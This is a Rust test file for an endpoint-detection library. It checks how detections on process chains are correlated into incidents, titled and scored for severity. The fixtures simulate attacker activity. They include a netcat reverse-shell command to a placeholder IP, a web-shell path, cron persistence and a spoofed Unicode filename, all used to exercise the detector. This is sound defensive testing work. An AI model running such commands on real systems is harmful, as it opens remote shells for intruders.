//! What belongs together, and what does not though it looks so.

use quell_incident::join::{self, Joined, LinkKind, Open};
use quell_incident::{View, summary};
use quell_wire::activity::{Format, Severity, Source, Verdict};

use crate::scene::{Scene, setting};
use crate::stories;

/// Whether the second scene joins the incident that the first one began.
fn joined(first: &Scene, second: &Scene) -> Option<Joined> {
    let setting = setting();
    let open = Open {
        incident: "i1".into(),
        links: join::links(&View::of(&first.chain), &setting).kept,
        chains: 1,
        last_at_us: 0,
    };
    join::decide(&join::links(&View::of(&second.chain), &setting).asked, &[open])
}

fn kinds(joined: Option<Joined>) -> Vec<LinkKind> {
    joined.map(|joined| joined.reasons.into_iter().map(|reason| reason.kind).collect()).unwrap_or_default()
}

/// A system program does something in a tree of its own.
fn ordinary(endpoint: &str, chain: &str, pid: u32, uid: u32) -> Scene {
    let mut scene = Scene::new(endpoint, chain, pid);
    let run = scene.run(pid, 0, "/bin/sh -c id");
    scene.detect(run, Source::Behaviour, Severity::Low, "id", &[]);
    let process = scene.process(pid);
    (process.uid, process.login_uid) = (uid, None);
    process.user = format!("u{uid}");
    scene
}

#[test]
fn what_another_tree_runs_of_what_was_dropped_joins() {
    let found = joined(&stories::dropper(), &stories::by_cron());
    assert_eq!(kinds(found.clone()), [LinkKind::Hash, LinkKind::File]);
    let found = found.unwrap();
    assert_eq!(found.score, 85);
    assert_eq!(
        found.reasons[0].text,
        "the same content was met before: /tmp/x (SHA-256 111111111111…), within 10 minutes"
    );
    assert_eq!(
        found.reasons[1].text,
        "the file /tmp/x on web-1 was made or run there before, within 10 minutes"
    );
}

#[test]
fn the_same_chain_and_the_same_tree_join() {
    let one = stories::dropper();
    let mut again = stories::dropper();
    let found = joined(&one, &again).unwrap();
    assert_eq!((found.score, found.reasons[0].kind), (120, LinkKind::Chain));
    again.chain.id = "another".into();
    assert_eq!(joined(&one, &again).unwrap().reasons[0].kind, LinkKind::Tree);
    // After a start of the endpoint the same number is another process.
    again.chain.boot_id = "boot-2".into();
    assert_eq!(joined(&one, &again).unwrap().reasons[0].kind, LinkKind::Hash);
}

#[test]
fn what_everybody_has_joins_nothing() {
    let root = |pid, chain| ordinary("e1", chain, pid, 0);
    assert_eq!(kinds(joined(&root(100, "a"), &root(200, "b"))), [], "a shell of root");
    let user = |pid, chain| ordinary("e1", chain, pid, 1000);
    assert_eq!(kinds(joined(&user(100, "a"), &user(200, "b"))), [LinkKind::User]);
    assert_eq!(kinds(joined(&user(100, "a"), &user(200, "b").later(0))), [LinkKind::User]);
    assert_eq!(
        kinds(joined(&user(100, "a"), &ordinary("e2", "b", 200, 1000))),
        [],
        "the same number elsewhere"
    );
    assert_eq!(kinds(joined(&user(100, "a"), &ordinary("e1", "b", 200, 1001))), [], "somebody else");
    // A daemon's tree is everything that it serves.
    let daemon = |chain: &str, pid: u32| {
        let mut scene = Scene::new("e1", chain, 100);
        scene.run(100, 0, "/usr/sbin/sshd");
        let run = scene.run(pid, 100, "/bin/sh -c id");
        scene.process(pid).login_uid = None;
        scene.process(pid).uid = 0;
        scene.detect(run, Source::Behaviour, Severity::Low, "id", &[]);
        scene
    };
    assert_eq!(kinds(joined(&daemon("a", 101), &daemon("b", 102))), []);
}

#[test]
fn a_user_joins_for_half_an_hour_and_never_a_crowd() {
    let at = |seconds, chain| {
        let mut scene = Scene::new("e1", chain, 100 + u32::try_from(seconds).unwrap()).later(seconds);
        let run = scene.run(100 + u32::try_from(seconds).unwrap(), 0, "/bin/sh -c id");
        scene.detect(run, Source::Behaviour, Severity::Low, "id", &[]);
        scene
    };
    assert_eq!(kinds(joined(&at(0, "a"), &at(1799, "b"))), [LinkKind::User]);
    assert_eq!(kinds(joined(&at(0, "a"), &at(1802, "b"))), []);
    let setting = setting();
    let (one, two) = (at(0, "a").chain, at(60, "b").chain);
    let asked = join::links(&View::of(&two), &setting).asked;
    let links = join::links(&View::of(&one), &setting).kept;
    let open = |chains| Open { incident: "i".into(), links: links.clone(), chains, last_at_us: 0 };
    assert!(join::decide(&asked, &[open(19)]).is_some());
    assert!(
        join::decide(&asked, &[open(20)]).is_none(),
        "an incident of many chains takes no more by a user alone"
    );
}

#[test]
fn a_packages_program_joins_only_where_its_content_was_recognized() {
    let program = |source, package: &'static str| {
        move |endpoint: &str, chain: &str| {
            let mut scene = Scene::new(endpoint, chain, 100);
            let run = scene.run(100, 0, "/usr/local/bin/tool");
            scene.process(100).image.package = package.into();
            if let Some(quell_wire::activity::Deed::Start(image)) = &mut scene.chain.activities[0].deed {
                image.package = package.into();
                image.path = b"/usr/bin/tool".to_vec();
            }
            scene.detect(run, source, Severity::High, "tool", &[]);
            scene
        }
    };
    let kinds = |make: &dyn Fn(&str, &str) -> Scene| kinds(joined(&make("e1", "a"), &make("e2", "b")));
    assert_eq!(kinds(&program(Source::Behaviour, "tool 1")), []);
    assert_eq!(kinds(&program(Source::Yara, "tool 1")), []);
    assert_eq!(kinds(&program(Source::Behaviour, "")), []);
    assert_eq!(kinds(&program(Source::Yara, "")), [LinkKind::Hash]);
}

#[test]
fn of_several_incidents_the_surest_and_then_the_latest_is_chosen() {
    let setting = setting();
    let (one, two) = (stories::dropper().chain, stories::by_cron().chain);
    let asked = join::links(&View::of(&two), &setting).asked;
    let links = join::links(&View::of(&one), &setting).kept;
    let of = |kinds: &[LinkKind]| {
        links.iter().filter(|link| kinds.contains(&link.kind)).cloned().collect::<Vec<_>>()
    };
    let open = |incident: &str, kinds: &[LinkKind], last_at_us| Open {
        incident: incident.into(),
        links: of(kinds),
        chains: 1,
        last_at_us,
    };
    let chosen = |open: &[Open]| join::decide(&asked, open).map(|joined| joined.incident);
    let (hash, file) = ([LinkKind::Hash], [LinkKind::File]);
    assert_eq!(chosen(&[open("a", &file, 9), open("b", &hash, 1)]).as_deref(), Some("b"));
    assert_eq!(chosen(&[open("a", &hash, 1), open("b", &hash, 9)]).as_deref(), Some("b"));
    assert_eq!(chosen(&[open("b", &hash, 9), open("a", &hash, 9)]).as_deref(), Some("a"));
    assert_eq!(chosen(&[open("a", &hash, 9), open("b", &hash, 9)]).as_deref(), Some("a"));
    assert_eq!(chosen(&[open("a", &[], 9)]), None);
}

/// What found it, what was done at once, and what happened; the event that it was.
type Story<'s> = (Source, Verdict, &'s dyn Fn(&mut Scene) -> u64);

/// Titles, one a line, of scenes in which a rule hit on one event of a person's shell.
fn titles(stories: &[Story<'_>]) -> String {
    let title = |(source, verdict, tell): &Story<'_>| {
        let mut scene = Scene::new("e1", "c", 100);
        scene.run(100, 0, "/usr/bin/bash -i");
        let key = tell(&mut scene);
        scene.detect(key, *source, Severity::High, "Rule of a kind", &[]).verdict = (*verdict).into();
        summary::of(&[View::of(&scene.chain)], &setting()).title
    };
    stories.iter().map(title).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_title_says_which_rule_hit_which_program_where() {
    let title = |scene: &Scene| summary::of(&[View::of(&scene.chain)], &setting()).title;
    assert_eq!(title(&stories::dropper()), "Dropper: x on web-1");
    assert_eq!(title(&stories::by_cron()), "Cron runs a program of /tmp: x on web-1");
    let long = format!("/usr/bin/python3 -c {}", "import os;".repeat(100));
    let odd = |name: &'static str| move |scene: &mut Scene| scene.run(101, 100, &format!("/tmp/{name}"));
    let (ours, yara, asked) = (Source::Behaviour, Source::Yara, Source::Asked);
    let done = Verdict::Detected;
    insta::assert_snapshot!(titles(&[
        (ours, done, &|scene| scene.script(101, 100, "/bin/sh", "/tmp/i.sh")),
        (ours, done, &|scene| scene.run(101, 100, "/usr/bin/nc -e /bin/sh 203.0.113.9 4444")),
        (ours, Verdict::Prevented, &|scene| scene.run(101, 100, &long)),
        (ours, done, &|scene| scene.connect(100, "2001:db8::9", 443)),
        (ours, done, &|scene| scene.ask(100, "a.example", [1; 4])),
        (ours, done, &|scene| scene.create(100, "/etc/cron.d/x", 1, Format::Unspecified)),
        (yara, done, &|scene| scene.create(100, "/var/www/up/shell.php", 1, Format::Script)),
        (asked, done, &|scene| scene.run(101, 100, "/usr/bin/ls -la")),
        (ours, done, &odd("a\u{202e}gpj.exe\u{7}")),
        (ours, done, &odd("n".repeat(255).leak())),
        (ours, done, &|_| 999),
    ]), @r"
    Rule of a kind: i.sh on web-1
    Rule of a kind: nc on web-1
    Rule of a kind: python3 on web-1, prevented
    Rule of a kind: bash on web-1
    Rule of a kind: bash on web-1
    Rule of a kind: bash on web-1
    Rule of a kind: shell.php on web-1
    Chain asked for: ls on web-1
    Rule of a kind: a\u{202e}gpj.exe\u{7} on web-1
    Rule of a kind: nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn… on web-1
    Rule of a kind on web-1
    ");
    let empty = summary::of(&[], &setting());
    assert_eq!((empty.title.as_str(), empty.severity), ("", "informational"));
}

#[test]
fn a_title_stays_a_line_whatever_it_is_made_of() {
    let mut scene = Scene::new("e1", "c", 100);
    let run = scene.run(100, 0, &format!("/tmp/{}", "\u{202e}".repeat(80)));
    scene.detect(run, Source::Behaviour, Severity::High, &"\n\u{200b}".repeat(400), &[]);
    let mut setting = setting();
    setting.endpoints.get_mut("e1").unwrap().name = "e\u{1b}".repeat(300);
    let title = summary::of(&[View::of(&scene.chain)], &setting).title;
    assert!(title.chars().count() <= 200 && title.contains(" on e\\u{1b}"), "{title}");
    assert!(!title.chars().any(quell_incident::text::is_hidden), "{title}");
}

#[test]
fn what_a_chain_does_later_is_what_the_next_one_is_known_by() {
    // The part that comes after the detection: a copy under another name.
    let mut first = stories::dropper();
    let told = first.chain.activities.len();
    first.create(102, "/usr/local/lib/.u", 0x44, Format::Elf);
    let mut part = first.chain.clone();
    part.activities.drain(..told);
    part.detections.clear();
    let mut second = Scene::new("e1", "c2", 300).later(3600);
    let image = quell_wire::activity::Image {
        path: b"/usr/local/lib/.u".to_vec(),
        sha256: crate::scene::hash(0x44),
        ..Default::default()
    };
    let run = second.start(300, 0, image);
    second.detect(run, Source::Behaviour, Severity::High, "Hidden program", &[]);
    second.process(300).login_uid = None;
    second.process(300).uid = 0;
    let setting = setting();
    let kept = join::links(&View::of(&part), &setting).kept;
    assert_eq!(kept.iter().map(|link| link.kind).collect::<Vec<_>>(), [LinkKind::Hash, LinkKind::File]);
    let open = Open { incident: "i1".into(), links: kept, chains: 1, last_at_us: 0 };
    let joined = join::decide(&join::links(&View::of(&second.chain), &setting).asked, &[open]).unwrap();
    assert_eq!(
        joined.reasons[0].text,
        "the same content was met before: /usr/local/lib/.u (SHA-256 444444444444…), within 60 minutes"
    );
}

#[test]
fn an_incident_is_as_bad_as_its_worst_detection_and_worse_where_it_is_broad() {
    let severity = |scene: &Scene| {
        let told = summary::of(&[View::of(&scene.chain)], &setting());
        (told.severity, told.severity_reason)
    };
    let mut scene = stories::dropper();
    assert_eq!(
        severity(&scene),
        (
            "critical",
            "the worst detection is high; a step more, since they span 4 tactics and not all was prevented"
                .into()
        )
    );
    for hit in &mut scene.chain.detections {
        hit.verdict = Verdict::Prevented.into();
    }
    assert_eq!(severity(&scene), ("high", "the worst detection is high".into()));
    let told = summary::of(&[View::of(&scene.chain)], &setting());
    assert_eq!((told.detections, told.prevented), (3, 3));
    assert_eq!(told.techniques, ["T1053.003", "T1059.004", "T1105", "T1571"]);
    assert_eq!(told.tactics, ["execution", "persistence", "privilege-escalation", "command-and-control"]);
}
